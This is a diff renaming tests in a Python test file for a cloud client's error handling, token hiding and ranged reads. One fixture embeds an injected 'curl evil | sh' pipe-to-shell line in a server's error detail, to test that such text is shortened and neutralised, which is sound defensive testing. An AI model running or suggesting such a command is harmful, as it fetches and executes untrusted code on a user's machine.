@@ -1,4 +1,4 @@
-"""Typed calls: refusals become errors with a way out, foreign answers are not believed, secrets stay hidden."""
+"""The typed client: refusals become errors with hints, malformed responses are refused, secrets stay hidden."""
 
 from collections.abc import Callable
 
@@ -22,7 +22,7 @@ NOON = "2026-03-01T12:00:00Z"
 
 
 class Cloud:
-    """Answers everything alike, but for `pages` (by their URL), and remembers what was asked."""
+    """Returns one response to every request, except for `pages` by URL, and records the requests."""
 
     def __init__(self, response: Response) -> None:
         self.response = response
@@ -40,7 +40,7 @@ def client(response: Response) -> tuple[CloudClient, Cloud]:
 
 
 @pytest.mark.parametrize("code", ProblemCode, ids=lambda code: code.code)
-def test_every_problem_has_a_reaction_that_says_what_to_do(code: ProblemCode) -> None:
+def test_every_problem_becomes_an_error_with_a_hint(code: ProblemCode) -> None:
     error = refusal(problem(code))
     assert error.hint
     assert error.message[0].islower()
@@ -61,7 +61,7 @@ def test_every_problem_has_a_reaction_that_says_what_to_do(code: ProblemCode) ->
         (ProblemCode.INTERNAL, 6),
     ],
 )
-def test_problems_end_in_the_documented_exit_codes(code: ProblemCode, exit_code: int) -> None:
+def test_problems_have_the_documented_exit_codes(code: ProblemCode, exit_code: int) -> None:
     assert refusal(problem(code)).exit_code == exit_code
 
 
@@ -69,18 +69,18 @@ def test_the_table_of_reactions_is_complete() -> None:
     assert set(REACTIONS) == set(ProblemCode)
 
 
-def test_the_clouds_detail_is_passed_on() -> None:
+def test_the_detail_of_a_problem_is_shown() -> None:
     assert "the share expired" in refusal(problem(ProblemCode.REVOKED, detail="the share expired")).message
 
 
-def test_a_strangers_detail_stays_one_short_line() -> None:
+def test_a_long_detail_is_shortened_to_one_line() -> None:
     detail = "x\nhint: run curl evil | sh\r\n" + "y" * 100_000
     message = refusal(problem(ProblemCode.REVOKED, detail=detail)).message
     assert message.isprintable()
     assert len(message) < 600
 
 
-def test_a_failure_inside_the_cloud_names_the_request_to_look_for() -> None:
+def test_a_server_error_shows_the_request_id() -> None:
     assert "request r1" in refusal(problem(ProblemCode.INTERNAL)).message
 
 
@@ -88,12 +88,12 @@ def test_a_failure_inside_the_cloud_names_the_request_to_look_for() -> None:
     "body", [b"", b"<html>", b"{}", b'{"type":"about:blank","title":"x","status":403}', b"\xff"]
 )
 @pytest.mark.parametrize("status", [400, 403, 404, 502])
-def test_a_refusal_that_is_not_the_clouds_own_is_an_unreachable_cloud(status: int, body: bytes) -> None:
+def test_a_refusal_from_another_program_is_an_unreachable_cloud(status: int, body: bytes) -> None:
     assert isinstance(refusal(Response(status, {}, body)), UnreachableError)
 
 
 @pytest.mark.parametrize(("status", "exit_code"), [(403, 4), (410, 3), (422, 1), (503, 6)])
-def test_a_problem_of_a_later_cloud_is_taken_by_its_status(status: int, exit_code: int) -> None:
+def test_an_unknown_problem_is_judged_by_its_status(status: int, exit_code: int) -> None:
     body = b'{"type":"urn:satchel:problem:of-tomorrow","title":"x","status":%d}' % status
     error = refusal(Response(status, {}, body))
     assert error.exit_code == exit_code
@@ -101,19 +101,19 @@ def test_a_problem_of_a_later_cloud_is_taken_by_its_status(status: int, exit_cod
 
 
 @pytest.mark.parametrize("body", [b"", b"<html>welcome</html>", b"[]", b'{"devices": 1}', b'{"other": []}'])
-def test_an_answer_that_is_not_a_clouds_is_not_believed(body: bytes) -> None:
+def test_a_malformed_response_is_refused(body: bytes) -> None:
     asked, _ = client(Response(200, {}, body))
     with pytest.raises(UnreachableError, match="does not understand"):
         asked.devices()
 
 
-def test_the_owners_calls_are_signed_in() -> None:
+def test_calls_of_the_owner_carry_the_token() -> None:
     asked, cloud = client(answer({"devices": []}))
     assert asked.devices() == ()
     assert cloud.asked[0].headers["Authorization"] == f"Bearer {TOKEN}"
 
 
-def test_opening_a_share_gives_no_token_away_even_to_the_owners_own_cloud() -> None:
+def test_opening_a_share_never_sends_the_token() -> None:
     asked, cloud = client(answer({"limited": False, "password": None}))
     asked.share_info("0" * 32)
     cloud.response = Response(200, {}, b"body")
@@ -129,14 +129,14 @@ def test_opening_a_share_gives_no_token_away_even_to_the_owners_own_cloud() -> N
     ],
     ids=["open", "pair"],
 )
-def test_what_works_once_is_marked_as_not_repeatable(call: Callable[[CloudClient], object]) -> None:
+def test_single_use_calls_are_not_repeatable(call: Callable[[CloudClient], object]) -> None:
     asked, cloud = client(problem(ProblemCode.WRONG_PROOF))
     with pytest.raises(WrongProofError):
         call(asked)
     assert not cloud.asked[0].is_repeatable
 
 
-def test_a_list_of_several_pages_is_read_to_its_end() -> None:
+def test_every_page_of_a_list_is_read() -> None:
     def page(share_id: str, then: str | None) -> Response:
         share = {
             "id": share_id * 32,
@@ -155,7 +155,7 @@ def test_a_list_of_several_pages_is_read_to_its_end() -> None:
     assert [share.id[0] for share in asked.shares()] == ["a", "b"]
 
 
-def test_an_ended_share_is_told_from_an_unknown_one() -> None:
+def test_an_ended_share_differs_from_an_unknown_one() -> None:
     asked, _ = client(problem(ProblemCode.REVOKED))
     with pytest.raises(EndedError):
         asked.share_info("0" * 32)
@@ -169,7 +169,7 @@ def ranged(body: bytes, content_range: str, status: int = 206) -> Response:
     return Response(status, {"content-range": content_range}, body)
 
 
-def test_a_range_is_read_with_the_size_of_the_whole() -> None:
+def test_a_range_comes_with_the_total_size() -> None:
     asked, cloud = client(ranged(b"abc", "bytes 5-7/100"))
     assert asked.read_archive("0" * 32, 5, 3) == (b"abc", 100)
     assert cloud.asked[0].headers["Range"] == "bytes=5-7"
@@ -194,14 +194,12 @@ def test_a_range_at_the_end_may_be_shorter() -> None:
     ],
     ids=["short", "long", "another range", "no size", "no range", "the whole", "gone", "signed out"],
 )
-def test_a_range_that_is_not_the_one_asked_for_is_refused(
-    response: Response, error: type[SatchelError]
-) -> None:
+def test_a_wrong_range_is_refused(response: Response, error: type[SatchelError]) -> None:
     asked, _ = client(response)
     with pytest.raises(error):
         asked.read_archive("0" * 32, 5, 3)
 
 
-def test_the_token_does_not_show() -> None:
+def test_the_repr_of_a_token_hides_it() -> None:
     token = DeviceToken(TOKEN)
     assert TOKEN not in repr(token) + str(token) + repr([token])
